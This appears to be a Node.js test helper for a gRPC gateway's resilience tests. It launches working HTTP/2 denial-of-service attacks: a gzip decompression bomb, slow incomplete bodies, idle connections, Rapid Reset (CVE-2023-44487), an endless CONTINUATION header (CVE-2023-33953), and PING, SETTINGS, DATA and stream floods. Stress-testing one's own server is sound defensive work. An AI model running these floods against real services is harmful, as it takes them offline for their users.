// Attacks on the gRPC port, each in a process of its own so that the tests can
// look after a well-behaved caller meanwhile:
//   node grpc_flood.mjs KIND PORT '{"key": ..., ...}'
// Prints one line of JSON: what was sent, and what became of the connections.
import zlib from 'node:zlib';
import { CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, PING,
  RST_STREAM, SETTINGS, callHeaders, frame, integer, indexedHeaders,
  messageHead }
  from './grpc_frames.mjs';

const [kind, port, text] = process.argv.slice(2);
const options = JSON.parse(text ?? '{}');
const { key, from, seconds = 10 } = options;
let until = Date.now() + seconds * 1000;
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const open = (more) => Connection.open(Number(port), { from, ...more });
const submit = '/sluice.v1.GatewayService/Submit';
const stream = '/sluice.v1.GatewayService/SubmitStream';

// `mebibytes` of zeros in gzip: the same compressed block, again and again.
function bomb(mebibytes) {
  const zeros = zlib.deflateRawSync(Buffer.alloc(1 << 20),
      { finishFlush: zlib.constants.Z_FULL_FLUSH });
  const blocks = Buffer.concat(Array(mebibytes).fill(zeros));
  return Buffer.concat([
    Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), blocks,
    Buffer.from([3, 0, 0, 0, 0, 0, 0, 0, 0, 0])]);
}

// Opens `count` connections and uses each; returns how many the server closed.
// With the option `again`, opens another one for each that it closed.
async function each(count, use) {
  const ends = await Promise.all(Array.from({ length: count }, async (_, i) => {
    let sent = 0;
    let opened = 0;
    let closed = 0;
    do {
      const one = await open();
      ++opened;
      sent += await use(one, i);
      if (one.closed) ++closed;
      one.end();
    } while (options.again && Date.now() < until);
    return { sent, closed, opened };
  }));
  const sum = (what) => ends.reduce((all, one) => all + one[what], 0);
  return { sent: sum('sent'), closed: sum('closed'), connections: sum('opened') };
}

// Sends `bytes` until the time is over, the server closes, or `times` is reached.
async function repeat(one, bytes, times = Infinity) {
  let n = 0;
  while (n < times && Date.now() < until && await one.send(bytes)) {
    // The connection's own events run only between writes.
    if (++n % 64 === 0) await sleep(0);
  }
  return n;
}

// Sends `bytes` as the request of each stream, as far as the server lets it.
async function bodies(one, ids, bytes) {
  const left = new Map(ids.map((id) => [id, bytes]));
  let sent = 0;
  while (left.size > 0 && Date.now() < until && !one.closed) {
    for (const [id, rest] of left) {
      const size = one.sendData(id, rest);
      sent += size;
      if (size === rest.length) left.delete(id); else left.set(id, rest.subarray(size));
    }
    await sleep(5);
  }
  return sent;
}

const kinds = {
  // Says nothing, or an HTTP/2 preface and nothing more.
  idle: ({ connections }) => each(connections, async () => {
    await sleep(until - Date.now());
    return 0;
  }),
  async silent({ connections }) {
    const all = await Promise.all(Array.from({ length: connections },
        () => open({ hello: Buffer.alloc(0) })));
    await sleep(until - Date.now());
    const closed = all.filter((one) => one.closed).length;
    for (const one of all) one.end();
    return { sent: 0, closed, connections };
  },
  // Compressed requests that are a thousand times larger than they look.
  bomb({ connections = 1, method = submit, mebibytes = 4096 }) {
    const body = bomb(mebibytes);
    const message = Buffer.concat([messageHead(body.length, true), body]);
    until = Date.now() + seconds * 1000;
    return each(connections, async (one) => {
      one.socket.write(frame(HEADERS, END_HEADERS, 1,
          callHeaders(method, key, { 'grpc-encoding': 'gzip' })));
      const sent = await bodies(one, [1], message);
      // The server may be at work on it.
      await sleep(Math.max(0, until - Date.now()));
      return sent;
    });
  },
  // Requests that lack their last octet. They stay open until the end.
  bodies({ connections, streams, method = submit, size = 4 << 20 }) {
    const head = messageHead(size);
    const message = Buffer.alloc(head.length + size - 1);
    head.copy(message);
    // To get memory of 2 GiB can take longer than the attack.
    until = Date.now() + seconds * 1000;
    return each(connections, async (one) => {
      const ids = Array.from({ length: streams }, (_, i) => 2 * i + 1);
      one.socket.write(Buffer.concat(ids.map((id) =>
        frame(HEADERS, END_HEADERS, id, callHeaders(method, key)))));
      const sent = await bodies(one, ids, message);
      await sleep(Math.max(0, until - Date.now()));
      return sent;
    });
  },
  // Calls that are reset at once (CVE-2023-44487).
  reset({ connections = 1, times = 100_000, method = submit }) {
    const { first, next } = indexedHeaders(method, key);
    return each(connections, async (one) => {
      let headers = first;
      let n = 0;
      while (n < times && Date.now() < until) {
        const some = [];
        for (let i = 0; i < 100; ++i, ++n) {
          some.push(frame(HEADERS, END_HEADERS, 2 * n + 1, headers),
              frame(RST_STREAM, 0, 2 * n + 1, Buffer.from([0, 0, 0, 8])));
          headers = next;
        }
        if (!await one.send(Buffer.concat(some))) break;
        await sleep(0);
      }
      return n;
    });
  },
  // Headers without an end (CVE-2023-33953): one value of a gibibyte.
  headers({ connections = 1 }) {
    return each(connections, async (one) => {
      let id = 1;
      if (key) {  // Not a stranger.
        one.socket.write(frame(HEADERS, END_HEADERS | END_STREAM, 1,
            callHeaders(submit, key)));
        await sleep(300);
        id = 3;
      }
      one.socket.write(frame(HEADERS, 0, id, Buffer.concat([
        callHeaders(submit, key), Buffer.from([0, 1]), Buffer.from('x'),
        integer(1 << 30)])));
      return await repeat(one, frame(CONTINUATION, 0, id, Buffer.alloc(16_384, 97)));
    });
  },
  // Many fields, each small.
  fields({ connections = 1 }) {
    const some = Buffer.concat(Array.from({ length: 200 }, (_, i) =>
      Buffer.concat([Buffer.from([0, 4]), Buffer.from(`x${100 + i}`),
        integer(60), Buffer.alloc(60, 97)])));
    return each(connections, async (one) => {
      one.socket.write(frame(HEADERS, 0, 1, callHeaders(submit, key)));
      return await repeat(one, frame(CONTINUATION, 0, 1, some));
    });
  },
  pings: ({ connections = 1 }) => each(connections, (one) =>
    repeat(one, Buffer.concat(Array(100).fill(frame(PING, 0, 0, Buffer.alloc(8)))))),
  settings: ({ connections = 1 }) => each(connections, (one) => repeat(one,
      Buffer.concat(Array(100).fill(
          frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0])))))),
  // Frames of nothing, on a stream that is never finished.
  empty: ({ connections = 1 }) => each(connections, (one) => {
    one.socket.write(frame(HEADERS, END_HEADERS, 1, callHeaders(submit, key)));
    return repeat(one, Buffer.concat(Array(100).fill(frame(DATA, 0, 1))));
  }),
  // As many streams as the server allows, which say nothing.
  streams: ({ connections, streams }) => each(connections, async (one) => {
    for (let i = 0; i < streams; ++i) {
      one.socket.write(frame(HEADERS, END_HEADERS, 2 * i + 1, callHeaders(stream, key)));
    }
    await sleep(until - Date.now());
    return streams;
  }),
};

const result = await kinds[kind](options);
console.log(JSON.stringify(result));
process.exit(0);
